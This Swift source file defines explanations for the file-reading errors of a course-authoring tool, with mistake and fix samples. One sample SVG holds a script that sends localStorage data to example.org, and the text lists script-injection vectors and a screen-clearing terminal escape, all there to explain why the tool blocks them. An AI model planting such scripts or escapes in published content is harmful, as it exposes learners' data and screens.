import FolioCompiler
import FolioCore
import FolioImport
import FolioSyntax

extension Explanation {
    /// Reading the files of the content folder.
    static let files: [Explanation] = [
        Explanation(
            .fileTooLarge,
            summary: "a text file is larger than 2 MB",
            meaning: """
                Folio reads chapters, quizzes, decks and the settings as text, and stops at \
                2 MB for one file. Real chapters and quizzes are a few kilobytes, so a file \
                this big is almost always something else: a pasted export, a document saved \
                with pictures inside it, or a picture or video with a text file's name. The \
                file is not read at all. A GIFT file given to `folio import` has the same limit.
                """,
            why: """
                A file that big would slow down every build and every learner's app, and it \
                is rarely what the author meant to publish.
                """,
            noExample: "a file of more than 2 MB does not fit in an example."),
        Explanation(
            .fileNotUTF8,
            summary: "a text file is not saved as UTF-8",
            meaning: """
                Folio reads text saved in the UTF-8 encoding, which every modern editor can \
                write and which has the letters of every language. This file was saved in \
                another encoding, most often Latin-1 or Windows-1252 by an older Windows \
                editor, so a letter such as `é` or `ñ` is stored as a byte that means nothing \
                in UTF-8. The message points at the first such letter.

                To fix it, open the file in your editor, choose "Save as", and pick the \
                encoding "UTF-8" (sometimes called "Unicode (UTF-8)"). A GIFT file given to \
                `folio import` is read the same way.
                """,
            why: """
                Read the wrong way, accented letters would turn into garbage on learners' \
                screens, so Folio stops instead of guessing.
                """,
            mistake: .file(
                "quizzes/who-am-i.yaml",
                """
                title: Who am I?
                questions:
                  - prompt: Chloé feels nervous before her first day. Is that normal?
                    type: true-false
                    answer: true
                    hint: Think about how you felt on your own first day.
                """, encoding: .latin1),
            fix: .file(
                "quizzes/who-am-i.yaml",
                """
                title: Who am I?
                questions:
                  - prompt: Chloé feels nervous before her first day. Is that normal?
                    type: true-false
                    answer: true
                    hint: Think about how you felt on your own first day.
                """)),
        Explanation(
            .fileUnreadable,
            summary: "a file cannot be opened",
            meaning: """
                Folio found the file but could not open it. This usually means that the \
                file's permissions do not let the account running Folio read it (a file \
                copied from another computer or made by another user), or that another \
                program holds it at that moment.
                """,
            why: """
                A chapter, quiz or deck that cannot be read cannot be built, so the build \
                stops rather than leave it out without a word.
                """,
            noExample: "whether a file can be opened depends on the computer, not on what the file says."),
        Explanation(
            .unknownFileType,
            summary: "a file is not one Folio reads, so it is left out",
            meaning: """
                Each folder of the content holds one kind of file: `chapters/` holds Markdown \
                files ending in `.md`, `quizzes/` holds `.yaml` files, and `decks/` holds \
                `.yaml` or `.txt` files. A file with another ending there (a `.docx`, a \
                `.pdf`, notes kept beside the chapters) is left out, with this warning. So \
                is a file at the top of the content folder whose name is close to \
                `bill-of-rights.yaml`, such as `bill_of_rights.yaml`. (A chapter saved with \
                another ending is an error instead: `chapter-file-ending`.)

                Pictures, handouts and other files belong in `media/`.
                """,
            why: """
                A file left out without a word might be one that was meant to be read; the \
                warning makes sure that leaving it out is what you meant.
                """,
            mistake: .file(
                "chapters/ideas-for-later.txt",
                """
                Ideas for later chapters: friendship, feeling left out, saying no.
                """),
            fix: .file(
                "media/ideas-for-later.txt",
                """
                Ideas for later chapters: friendship, feeling left out, saying no.
                """)),
        Explanation(
            .mediaActiveContent,
            summary: "a page or picture in `media/` could run a script",
            meaning: """
                Folio publishes the files of `media/` with the site, and a browser shows an \
                HTML page (`.html`, `.htm`, `.xhtml`) or an SVG picture opened from a link \
                on the site's own address. Whatever such a file runs can read what the site \
                keeps in the learner's browser: their name and their progress. So Folio \
                reads every HTML, SVG and XML file of `media/` and stops the build when one \
                holds something that runs: a `<script>` element, an event handler such as \
                `onload` or `onclick`, a `javascript:` (or `vbscript:`, or a page's \
                `data:`) address in `href`, `src`, `action` or `formaction`, a \
                `<foreignObject>`, a frame (`<iframe>`, `<object>`, `<embed>`), an \
                animation that sets an event handler or a script's address, or a `<meta>` \
                refresh. The message points at the element or attribute.

                In an SVG or XML file, an element inside one that a web page reads as text \
                (`<textarea>`, `<style>` outside the picture's `<svg>`), an `<!ENTITY>` \
                and `<?xml-stylesheet?>` are refused too: a browser would read them as \
                elements Folio cannot see. A compressed `.svgz` picture, a file of more \
                than 16 MB and one saved as UTF-16 without its mark cannot be checked, and \
                are refused. To publish a page that needs its scripts, put it on a site of \
                its own and link to its `https://` address.
                """,
            why: """
                A script in a handout would run with the site's rights: it could send a \
                learner's name and progress anywhere, or change what the site shows.
                """,
            mistake: .file(
                "media/star.svg",
                """
                <svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">
                  <script>fetch("https://example.org/?" + localStorage.length)</script>
                  <circle cx="10" cy="10" r="8" fill="gold"/>
                </svg>
                """),
            fix: .file(
                "media/star.svg",
                """
                <svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">
                  <circle cx="10" cy="10" r="8" fill="gold"/>
                </svg>
                """)),
        Explanation(
            .chapterFileEnding,
            summary: "a chapter is saved with an ending other than `.md`",
            meaning: """
                Folio reads a chapter only from a file in `chapters/` whose name ends in \
                `.md`. A chapter saved as `.txt`, `.markdown` or `.md.txt` (some editors \
                add `.txt` and hide it) would be missing from the site and the bundle, so \
                the build stops and names the file to rename. A file in `chapters/` counts \
                as a chapter when its ending is a Markdown one (`.markdown`, `.mdown`, \
                `.mkd`, `.mkdn`, `.mdwn`) or when it is text whose first line is the `---` \
                that starts a chapter's settings, unless the chapter of that name ending in \
                `.md` is there too (then the file is a copy, left out with a warning). A \
                link to the name the chapter should have is not reported as well.
                """,
            why: """
                A chapter that vanishes from the site changes what learners see without \
                anyone noticing.
                """,
            mistake: .file(
                "chapters/02-friendship.txt",
                """
                ---
                title: Friendship
                summary: What makes a good friend.
                ---

                A good friend listens, and is honest with you even when it is hard.
                """),
            fix: .file(
                "chapters/02-friendship.md",
                """
                ---
                title: Friendship
                summary: What makes a good friend.
                ---

                A good friend listens, and is honest with you even when it is hard.
                """)),
        Explanation(
            .tooManyProblems,
            summary: "a file has more problems than are listed",
            meaning: """
                Folio lists at most 50 problems for one file. When a file has more, the \
                51st place gets this message instead, which says how many more errors and \
                warnings there are. So many problems in one file nearly always come from one \
                slip repeated: text pasted from elsewhere, a lost line break, a list copied \
                with the wrong indentation. Fix the problems that are listed and check \
                again; the rest usually go with them.
                """,
            why: "Thousands of messages about one slip would hide the first ones, which say what the slip is.",
            mistake: .file(
                "chapters/02-friendship.md",
                Explanation.friendship((1...51).map { "See [part \($0)](part-\($0).md)." }.joined(separator: "\n\n"))),
            fix: .file(
                "chapters/02-friendship.md",
                Explanation.friendship("See the next chapter."))),
        Explanation(
            .textControlCharacter,
            summary: "text holds an invisible control character",
            meaning: """
                Control characters are not letters or signs but instructions to a screen or \
                a printer: ESC, BEL, a form feed, NUL. They are invisible in most editors \
                and usually come with text pasted from a terminal, a PDF or an old \
                program. In YAML they can also be written as escapes inside double quotes, \
                such as `"\\e[2J"`. Folio refuses them in chapters, quizzes, decks and \
                settings (tabs and line breaks are fine). Delete the character: in an \
                editor that does not show it, delete the characters around the place the \
                message points to and type them again.
                """,
            why: """
                Sent to a learner's terminal by `folio quiz` or `folio study`, a control \
                character can clear the screen, change the window's title or hide a link; \
                in an app it shows as a box or nothing.
                """,
            mistake: .file(
                "quizzes/who-am-i.yaml",
                quiz(
                    """
                      - prompt: "Everyone feels nervous sometimes.\\e[2J"
                        type: true-false
                        answer: true
                        hint: Even adults on stage get butterflies.
                    """)),
            fix: .file(
                "quizzes/who-am-i.yaml",
                quiz(
                    """
                      - prompt: Everyone feels nervous sometimes.
                        type: true-false
                        answer: true
                        hint: Even adults on stage get butterflies.
                    """))),
        Explanation(
            .contentLinkNotFollowed,
            summary: "a file or folder is a link, so it is left out",
            meaning: """
                A symbolic link (or an alias made in a terminal with `ln -s`) stands for a \
                file or folder elsewhere. Folio does not follow links inside the content \
                folder, so the file or folder the link points to is not part of the program. \
                If `folio.yaml` itself is a link, the program has no settings. Put the file \
                itself in the content folder instead: copy it, or move it there and put the \
                link the other way round.
                """,
            why: """
                A link can lead anywhere on the computer; following one could put a \
                private file into the published site.
                """,
            noExample: "a link is made by the file system, not written in a file."),
        Explanation(
            .contentFolderTooDeep,
            summary: "a folder is nested too deeply to be read",
            meaning: """
                Folio reads folders up to 8 levels inside the content folder \
                (`media/photos/2025/` is 3). What is in a deeper folder is left out, with \
                this warning. Real programs need two or three levels; a deeper folder is \
                usually a copy of a folder inside itself, or a backup that ended up in the \
                content folder.
                """,
            why: "The limit keeps a folder that contains itself from being read forever.",
            mistake: ContentExample([
                .media("media/a/b/c/d/e/f/g/h/sunrise.png", "a picture")
            ]),
            fix: ContentExample([
                .media("media/sunrise.png", "a picture")
            ])),
        Explanation(
            .fileEmpty,
            summary: "a file is empty",
            meaning: """
                A settings, quiz, deck or bill-of-rights file, or the front matter between \
                a chapter's two `---` lines, has nothing in it (or only comments). Each \
                needs its fields: a quiz at least `title:` and `questions:`. A new file is \
                best started with `folio new`, which writes a working one. Before Folio 1.1 \
                this was reported as `missing-field`.
                """,
            why: "An empty file is usually one saved before it was written, and would be left out of the program.",
            mistake: .file("quizzes/who-am-i.yaml", ""),
            fix: .file(
                "quizzes/who-am-i.yaml",
                Explanation.quiz(
                    """
                      - prompt: Everyone feels nervous sometimes.
                        type: true-false
                        answer: true
                        hint: Even adults on stage get butterflies.
                    """))),
    ]
}
